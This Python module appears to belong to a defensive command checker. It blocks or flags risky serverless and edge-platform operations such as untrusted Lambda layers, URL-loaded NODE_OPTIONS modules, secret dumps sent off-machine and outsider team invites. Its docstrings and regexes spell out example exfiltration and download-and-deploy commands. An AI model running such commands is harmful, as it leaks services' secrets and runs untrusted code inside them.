"""Serverless functions and edge platforms (Lambda, SAM, Serverless Framework, CDK, Cloudflare Workers and wrangler, Vercel, Netlify, Fly.io, Deno Deploy, Cloud Functions / Cloud Run, Azure Functions, Supabase), from the shell (session 28).

A function runs with its platform's secrets in its environment and answers whoever may call it. So, read by each
CLI's own spelling:

- code from elsewhere made part of the functions: a layer of an AWS account the input names nowhere else (and no
  observability or AWS publisher's) attached to every function of a loop over `list-functions` (blocked; to one
  function together with an exec wrapper, held), `NODE_OPTIONS` preloading a module from a URL
  (`--import=https://…`), a function's code replaced with an archive fetched from a bare address or over plain HTTP,
  and an image deployed (`gcloud run deploy`, `fly deploy`) from a Dockerfile this input wrote whose commands would
  be blocked (a reverse shell in its CMD): blocked;
- a function opened to the internet without authentication (a function URL with auth type NONE) when its name says it
  is internal or an admin's, or when the URL is handed to another machine: blocked; invoke rights given to an AWS
  account the input names nowhere else: held (this check knows none of the user's accounts);
- a platform's runtime secrets printed remotely (`fly ssh console -C printenv`, `heroku run env`, a function's
  configuration with its environment, an Azure app's settings) into a program that sends them off the machine:
  blocked;
- what has no undo, reviewed `irreversible`: `sam delete`, `serverless remove` / `sls remove`, `sst remove`.
"""
from __future__ import annotations

import re

from .commands import Cmd, option_value, positionals
from .common import NET_SENDERS, feeders, input_text, mentions

_AWS_ARG = frozenset({"--profile", "--region", "--output", "--endpoint-url", "--query", "--ca-bundle", "--color",
                      "--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format"})
_LAYER_ARN = re.compile(r"arn:aws[\w-]*:lambda:[\w-]+:(\d{12}):layer:([\w-]+)")
_ACCOUNT_ID = re.compile(r"(?<![\w.-])\d{12}(?!\w)")
# the accounts AWS and the observability vendors publish their public layers from (Lambda Insights, Powertools, the
# Parameters and Secrets extension, ADOT; Datadog, New Relic, Lumigo, Sentry, Elastic, Honeycomb, Splunk, Thundra,
# Epsagon, Instana): the layers their install guides attach to every function
_PUBLISHERS = frozenset({"580247275435", "017000801446", "094274105915", "177933569100", "901920570463",
                         "464622532012", "451483290750", "114300393969", "943013980633", "267093732750", "702835727665",
                         "254067382080", "269863060030", "066549572091", "410797082306"})
# a Node option that loads a module at every start, given a URL (js/serverless.py reads NODE_OPTIONS with it too)
NODE_PRELOAD = re.compile(r"(?:--import|--require|-r|--loader|--experimental-loader)[=\s]+[\"'`]?"
                          r"(https?://[^\s\"'`,}]+)")
# a function whose name says it is not for the public (python/serverless.py reads boto3's FunctionName with it too).
# Not `billing`, `console`, `debug`: a billing (Stripe) webhook must be public to be called at all, and the other two
# name too many ordinary functions to say one is private
INTERNAL_NAME = re.compile(r"(?i)(?:^|[-_.])(?:admin|internal|private|backoffice|back-office|ops|payroll|management|"
                           r"mgmt)(?:[-_.]|$)")
_RULE_IRREVERSIBLE = "irreversible"


def _src(a, node) -> str:
    return a.doc.data[node.start_byte:node.end_byte].decode("utf-8", "replace")


def _sls_loop(cmd: Cmd):
    from .mail import loop_of

    return loop_of(cmd)


def _sls_off(c: Cmd) -> str | None:
    """The host off this machine and network that the sender `c` sends to, or None."""
    from ..hosts import loopback, url_host
    from .admin import near_address

    if c.name not in NET_SENDERS:
        return None
    for w in c.args:
        v = w.value or w.text
        host = url_host(v) if "//" in v else (m.group(0) if (m := re.search(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", v))
                                               else None)
        if host and "$" not in host and not loopback(host) and not near_address(host):
            return host
    return None


def _sls_sender(a, cmd: Cmd) -> None:
    """`fly ssh console -C printenv | gzip | curl --data-binary @- URL`, `curl -d "$(heroku run env)" URL`: a sender fed
    by an earlier stage of its pipeline, or by a substitution among its words, that prints a platform's secrets (or the
    URL of a function just opened to anyone). Read from the sender's side: the stages before it are judged by then."""
    host = None
    for c in feeders(a, cmd, _PRINTERS):
        what = _PRINTERS[c.name](a, c)
        if what is None:
            continue
        host = host or _sls_off(cmd)
        if host is None:
            return
        a.block("exfiltration", f"{what}, and `{cmd.name}` sends it to {host}; never send a service's secrets, or a "
                                "door opened into it, off the machine", c.node)
        return


# -- AWS Lambda ---------------------------------------------------------------------------------------------------------
def _aws(a, cmd: Cmd) -> None:
    path = [w.value for w in positionals(cmd.args, _AWS_ARG, stop_at_end=True)[:2]]
    if len(path) < 2 or path[0] != "lambda" or path[1] is None:
        return
    op = path[1]
    if op in ("update-function-configuration", "create-function"):
        _layers(a, cmd, op)
        _preload(a, cmd, op)
    if op in ("update-function-code", "create-function", "publish-layer-version"):
        _code_fetched(a, cmd, op)
    if op in ("create-function-url-config", "update-function-url-config", "add-permission"):
        _opened(a, cmd, op)


def _lambda_op(cmd: Cmd) -> str | None:
    path = [w.value for w in positionals(cmd.args, _AWS_ARG, stop_at_end=True)[:2]]
    return path[1] if len(path) == 2 and path[0] == "lambda" else None


# a JMESPath that selects whole function configurations (`Configuration`, `Functions[*]`, `Functions[?Runtime==…]`,
# `@`), whose `Environment` comes along, rather than fields of them (`Configuration.Runtime`)
_WHOLE_CONFIG = re.compile(r"(?:^|[\s{,:|(\[])(?:Configuration|Functions|@)(?:\[[^\]]*\])*(?=\s*(?:$|[,}\]|)]))")


def _aws_printed(a, cmd: Cmd) -> str | None:
    op = _lambda_op(cmd)
    if op in ("get-function-configuration", "get-function", "list-functions"):
        query = " ".join(w.value or "" for w in option_value(cmd.args, "--query"))
        if not query or "Environment" in query or "Variables" in query or _WHOLE_CONFIG.search(query):
            return f"`aws lambda {op}` prints the functions' environment variables (their API keys and passwords)"
    elif op in ("create-function-url-config", "update-function-url-config"):
        if any(w.value == "NONE" for w in option_value(cmd.args, "--auth-type")):
            return f"`aws lambda {op} --auth-type NONE` opens the function to anyone without authentication and " \
                   "prints its URL"
    return None


def _layers(a, cmd: Cmd, op: str) -> None:
    words = option_value(cmd.args, "--layers")
    if not words:
        return
    i = cmd.words.index(words[0]) if words[0] in cmd.words else len(cmd.words)
    values = [w.value or w.text for w in cmd.words[i:] if not (w.value or "").startswith("--")] + \
        [w.text for w in words]
    text = input_text(a)
    arns = [m for v in values for m in _LAYER_ARN.finditer(v)]
    if not arns and any("$" in v for v in values):
        arns = list(_LAYER_ARN.finditer(text))  # `--layers "$LAYER"`, set earlier in the script
    env = " ".join(w.value or w.text for w in option_value(cmd.args, "--environment"))
    wrapper = "AWS_LAMBDA_EXEC_WRAPPER" in env
    for m in arns:
        account = m.group(1)
        if account in _PUBLISHERS or _named_elsewhere(text, account):
            continue
        loop = _sls_loop(cmd)
        every = loop is not None and re.search(r"\blist-functions\b", _src(a, loop)) is not None or \
            cmd.xargs_opts is not None and "list-functions" in text
        shown = f"aws lambda {op} --layers {m.group(0)}"
        if every and not wrapper:
            a.review("download-exec", f"`{shown}` attaches the layer {m.group(2)} of AWS account {account}, which this "
                                      "input names nowhere else, to every function of the account (an extension in "
                                      "it runs inside each of them, with their secrets). A person should confirm the "
                                      "layer is the organisation's or a vendor's", cmd.node)
            return
        if every:
            a.block("download-exec", f"`{shown}` attaches the layer {m.group(2)} of AWS account {account}, which this "
                                     "input names nowhere else and is no known publisher's, to every function of the "
                                     "account: its code runs inside each of them with their secrets and requests"
                                     " (as the exec wrapper of each). Attach layers the "
                                     "organisation builds or a vendor publishes, to the functions the task names",
                    cmd.node)
            return
        if wrapper:
            a.review("download-exec", f"`{shown}` makes the layer {m.group(2)} of AWS account {account}, which this "
                                      "input names nowhere else, the exec wrapper of the function: its code runs "
                                      "before the function's, with its secrets. A person should confirm the layer "
                                      "is the organisation's or a vendor's", cmd.node)
            return


def _named_elsewhere(text: str, account: str) -> bool:
    """Whether the input names `account` other than in a layer's ARN (its own role's ARN, a table of accounts)."""
    in_layers = sum(1 for m in _LAYER_ARN.finditer(text) if m.group(1) == account)
    return sum(1 for m in _ACCOUNT_ID.finditer(text) if m.group() == account) > in_layers


def _preload(a, cmd: Cmd, op: str) -> None:
    for w in option_value(cmd.args, "--environment"):
        v = w.value or w.text
        m = NODE_PRELOAD.search(v) if "NODE_OPTIONS" in v else None
        if m is not None:
            a.block("download-exec", f"`aws lambda {op}` sets NODE_OPTIONS to load {m.group(1)} at every start of the "
                                     "function: code served by that host runs inside it with its secrets. Bundle the "
                                     "module with the function's code instead", w.node)
            return


def _code_fetched(a, cmd: Cmd, op: str) -> None:
    """`curl -o /tmp/f.zip http://203.0.113.9/…; aws lambda update-function-code --zip-file fileb:///tmp/f.zip`."""
    from .. import paths

    for w in option_value(cmd.args, "--zip-file", "--content"):
        v = w.value or ""
        path = v.split("://", 1)[1] if v.startswith(("fileb://", "file://")) else None
        if op == "publish-layer-version" and path is None and "ZipFile=fileb://" in v:
            path = v.split("ZipFile=fileb://", 1)[1].split(",", 1)[0]
        if not path:
            continue
        url = a.downloaded.strangers.get(paths.normalize(path))
        if url is not None:
            a.block("download-exec", f"`aws lambda {op}` deploys {path}, fetched from {url} (a bare address or plain "
                                     "HTTP, which no name vouches for): whatever was served there runs as the "
                                     "function, with its secrets and its callers' requests. Build the archive from "
                                     "the project's source", w.node)
            return


def _opened(a, cmd: Cmd, op: str) -> None:
    vals = [w.value or "" for w in cmd.args]
    names = [w.value for w in option_value(cmd.args, "--function-name") if w.value]
    name = names[0] if names else None
    auth = [w.value for w in option_value(cmd.args, "--auth-type", "--function-url-auth-type") if w.value]
    principals = [w for w in option_value(cmd.args, "--principal") if w.value]
    shown = f"aws lambda {op}"
    if "NONE" in auth:
        if name and INTERNAL_NAME.search(name.rsplit(":", 1)[-1]):
            a.block("exfiltration", f"`{shown}` opens the function {name}, whose name says it is internal or an "
                                    "administrator's, to anyone on the internet without authentication. Keep its URL "
                                    "on AWS_IAM authentication (or behind the organisation's own gateway)", cmd.node)
            return
    if op != "add-permission":
        return
    for w in principals:
        p = w.value or ""
        m = re.fullmatch(r"(?:arn:aws[\w-]*:iam::)?(\d{12})(?::root)?", p)
        if m is not None and not _named_elsewhere_once(input_text(a), m.group(1)):
            a.review("privilege-escalation", f"`{shown}` lets AWS account {m.group(1)}, which this input names "
                                             f"nowhere else, invoke the function {name or ''}; this check knows none "
                                             "of your own accounts, so a person should confirm that one is yours",
                     w.node)
            return
        if p == "*" and "lambda:InvokeFunction" in vals and not any(
                v.startswith(("--source-arn", "--source-account", "--principal-org-id")) for v in vals):
            a.review("privilege-escalation", f"`{shown} --principal '*'` lets any AWS account invoke the function "
                                             f"{name or ''}; name the service (`--principal s3.amazonaws.com`) with "
                                             "`--source-arn`, or the account that needs it", w.node)
            return


def _named_elsewhere_once(text: str, account: str) -> bool:
    return sum(1 for m in _ACCOUNT_ID.finditer(text) if m.group() == account) > 1


# -- platforms' runtime secrets printed and sent ------------------------------------------------------------------------
# (also `printenv NAME…`: one variable of the app's runtime is as much its secret as all of them)
_ENV_DUMP = re.compile(r"(?:^|[;&|(`]\s*|\bsh\s+-c\s+[\"']?)(?:printenv|env|export(?:\s+-p)?|declare\s+-x|set)\s*(?:$|[|;&>)`\"'])|"
                       r"(?:^|[;&|(`]\s*|\bsh\s+-c\s+[\"']?)printenv(?:[ \t]+[A-Z_][A-Z0-9_]*)+[ \t]*(?:$|[|;&>)`\"'])|"
                       r"/proc/(?:self|1|\d+|\*)/environ")


def _remote_command(cmd: Cmd) -> str | None:
    """The command `fly ssh console -C CMD` / `heroku run CMD` runs on the app's machine."""
    vals = [w.value or "" for w in cmd.args]
    if cmd.name in ("fly", "flyctl"):
        if vals[:2] != ["ssh", "console"]:
            return None
        got = option_value(cmd.args, "-C", "--command")
        return got[0].value if got and got[0].value else None
    if cmd.name == "heroku" and vals[:1] in (["run"], ["run:detached"]):
        rest = [w.value or "" for w in positionals(cmd.args[1:], frozenset({"-a", "--app", "-r", "--remote", "-s",
                                                                            "--size", "-e", "--env", "--type"}))]
        return " ".join(rest) or None
    return None


def _remote_printed(a, cmd: Cmd) -> str | None:
    run = _remote_command(cmd)
    if run is not None and _ENV_DUMP.search(run.strip()):
        return f"`{cmd.name} {'ssh console' if cmd.name != 'heroku' else 'run'}` runs `{run}` on the app's machine, " \
               "which prints its runtime secrets"
    return None


def _az_printed(a, cmd: Cmd) -> str | None:
    vals = [w.value or "" for w in cmd.args]
    if len(vals) >= 4 and vals[0] in ("functionapp", "webapp") and vals[1:4] == ["config", "appsettings", "list"]:
        return f"`az {vals[0]} config appsettings list` prints the app's settings (its connection strings and keys)"
    return None


_PRINTERS = {"aws": _aws_printed, "fly": _remote_printed, "flyctl": _remote_printed, "heroku": _remote_printed,
             "az": _az_printed}


# -- an image deployed from a Dockerfile this input wrote ---------------------------------------------------------------
# (the last component is checked whole first: without it each `Dockerfile` of a long name was read to the end again)
_DOCKERFILE = re.compile(r"(?:^|/)(?=[\w.-]*+$)(?:[\w.-]*Dockerfile[\w.-]*|Containerfile[\w.-]*)$", re.I)
_DF_LINE = re.compile(r"^[ \t]*(RUN|CMD|ENTRYPOINT)[ \t]+(.*)$", re.I | re.M)


def _df_commands(text: str) -> list[str]:
    import json
    import shlex

    out = []
    for m in _DF_LINE.finditer(text.replace("\\\n", " ")):
        body = m.group(2).strip()
        if body.startswith("["):
            try:
                argv = json.loads(body)
                body = shlex.join(argv) if all(isinstance(x, str) for x in argv) else ""
            except (ValueError, TypeError):
                pass
        if body:
            out.append(body)
    return out[:32]


def _deployed_image(a, cmd: Cmd) -> None:
    vals = [w.value or "" for w in cmd.args]
    if cmd.name == "gcloud":
        p = [v for v in vals if not v.startswith("-")]
        if p[:1] in (["beta"], ["alpha"]):
            p = p[1:]
        if not (p[:2] == ["run", "deploy"] or p[:2] == ["builds", "submit"] or p[:2] == ["functions", "deploy"] or
                p[:1] == ["app"] and "deploy" in p[:2]):
            return
    elif [v for v in vals if not v.startswith("-")][:1] != ["deploy"]:
        return
    from .written import _written, blocked, text_written

    seen = set()
    for doc, c in a.ctx.commands:
        if doc is not a.doc or not (c.redirects or c.name == "tee"):
            continue
        for path in _written(a, c):
            if path in seen or not _DOCKERFILE.search(path):
                continue
            seen.add(path)
            got = text_written(a, path)
            if got is None:
                continue
            for line in _df_commands(got[0]):
                found = blocked(a, line, "bash")
                if found is not None:
                    a.block(found.rule, f"`{cmd.name} {' '.join(vals[:2])}` builds and runs {path}, written here, "
                                        f"whose command `{line[:80]}` would be blocked ({found.message}); it would "
                                        "run in the deployed service with its secrets", cmd.node)
                    return


# -- an outsider let into the platform's team ---------------------------------------------------------------------
_EMAIL = re.compile(r"(?<![\w.+-])[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


def _member_added(a, cmd: Cmd) -> None:
    """`vercel teams invite x@elsewhere.io --scope acme`, `netlify api addMemberToAccount --data '{"account_slug":
    "acme", "body": {"email": …, "role": "Owner"}}'`, `fly orgs invite acme x@…`, `heroku members:add x@… --team
    acme`: whose the address is, read as cloud_admin.stranger reads it (the team the command names against the
    address's domain)."""
    import json

    from ..cloud_admin import org_words, stranger

    vals = [w.value or "" for w in cmd.args]
    pos = [v for v in vals if not v.startswith("-")]
    org: list[str] = []
    emails: list[str] = []
    role = ""
    if cmd.name == "vercel" and pos[:2] in (["teams", "invite"], ["team", "invite"]):
        emails = [v for v in pos[2:] if _EMAIL.fullmatch(v)]
        org = [w.value or "" for w in option_value(cmd.args, "--scope", "-S")]
    elif cmd.name == "netlify" and pos[:2] == ["api", "addMemberToAccount"]:
        for w in option_value(cmd.args, "--data", "-d"):
            try:
                body = json.loads(w.value or "")
            except ValueError:
                continue
            if isinstance(body, dict):
                org.append(str(body.get("account_slug") or body.get("account_id") or ""))
                inner = body.get("body") if isinstance(body.get("body"), dict) else body
                emails.append(str(inner.get("email") or ""))
                role = str(inner.get("role") or "")
    elif cmd.name in ("fly", "flyctl") and pos[:2] in (["orgs", "invite"], ["org", "invite"]) and len(pos) >= 4:
        org, emails = [pos[2]], [pos[3]]
    elif cmd.name == "heroku" and pos[:1] in (["members:add"], ["access:add"]):
        emails = [v for v in pos[1:] if _EMAIL.fullmatch(v)]
        org = [w.value or "" for w in option_value(cmd.args, "--team", "-t", "--app", "-a")]
        role = " ".join(w.value or "" for w in option_value(cmd.args, "--role", "-r"))
    words = org_words(*org) if org else set()
    for e in emails:
        who = stranger(e, words) if e else None
        if who is None:
            continue
        shown = f"`{cmd.name} {' '.join(pos[:2])}` lets {e} into the {' '.join(org)} team"
        if re.search(r"(?i)owner|admin", role):
            a.block("persistence", f"{shown} as {role}: an address at {who}, which is not the organisation's, then "
                                   "controls its deployments, environment variables, domains and members, and keeps a "
                                   "way in whatever else is cleaned up. Invite people the user names, with the "
                                   "narrowest role, and let a person do it", cmd.node)
        else:
            a.review("persistence", f"{shown}: an address at {who}, which is not the organisation's, would see its "
                                    "deployments and environment variables; a person should confirm they are meant "
                                    "to", cmd.node)
        return


# -- what has no undo -----------------------------------------------------------------------------------------------
def _sam(a, cmd: Cmd) -> None:
    if _asks_help(cmd):
        return
    if [w.value for w in positionals(cmd.args)[:1]] == ["delete"]:
        stack = next((w.value for w in option_value(cmd.args, "--stack-name") if w.value), None)
        a.review(_RULE_IRREVERSIBLE, f"`sam delete` deletes the CloudFormation stack{' ' + stack if stack else ''} "
                                     "with every resource it created (tables and buckets without a Retain policy go "
                                     "with their data) and its deployment artifacts, with no undo; let the user run "
                                     "it", cmd.node)


def _asks_help(cmd: Cmd) -> bool:
    return any(w.value in ("--help", "-h") for w in cmd.args)


def _sls_remove(a, cmd: Cmd) -> None:
    if _asks_help(cmd):
        return
    pos = [w.value for w in positionals(cmd.args, frozenset({"--stage", "-s", "--region", "-r", "--config", "-c",
                                                               "--aws-profile", "--app", "--org"}))[:1]]
    if pos == ["remove"]:
        stage = next((w.value for w in option_value(cmd.args, "--stage", "-s") if w.value), None)
        a.review(_RULE_IRREVERSIBLE, f"`{cmd.name} remove` deletes the service's stack{' for stage ' + stage if stage else ''} "
                                     "with every function, table, bucket and queue it created (and their data), with "
                                     "no undo; let the user run it", cmd.node)


# command name -> [fn(a, cmd)]
HANDLERS: dict = {
    "aws": [_aws], "sam": [_sam], "serverless": [_sls_remove], "sls": [_sls_remove], "sst": [_sls_remove],
    "gcloud": [_deployed_image], "fly": [_deployed_image, _member_added], "flyctl": [_deployed_image, _member_added],
    "vercel": [_member_added], "netlify": [_member_added], "heroku": [_member_added],
    **{n: [_sls_sender] for n in NET_SENDERS},
}
_DF_WRITTEN = mentions("Dockerfile", "Containerfile", "dockerfile")
_INVITE_OR_DF = mentions("Dockerfile", "Containerfile", "dockerfile", "invite")
_PRINTED = mentions("printenv", "environ", "env", "export", "declare", "set", "get-function", "list-functions",
                    "appsettings", "NONE")
# command name -> screen(text) -> bool: whether the fast path must send the command on to HANDLERS
SCREENS: dict = {
    "aws": mentions("--layers", "NODE_OPTIONS", "--zip-file", "--content", "auth-type", "--principal"),
    "sam": mentions("delete"), "serverless": mentions("remove"), "sls": mentions("remove"), "sst": mentions("remove"),
    "gcloud": _DF_WRITTEN, "fly": _INVITE_OR_DF, "flyctl": _INVITE_OR_DF,
    "vercel": mentions("invite"), "netlify": mentions("addMember"), "heroku": mentions("members:add", "access:add"),
    **{n: _PRINTED for n in NET_SENDERS},
}
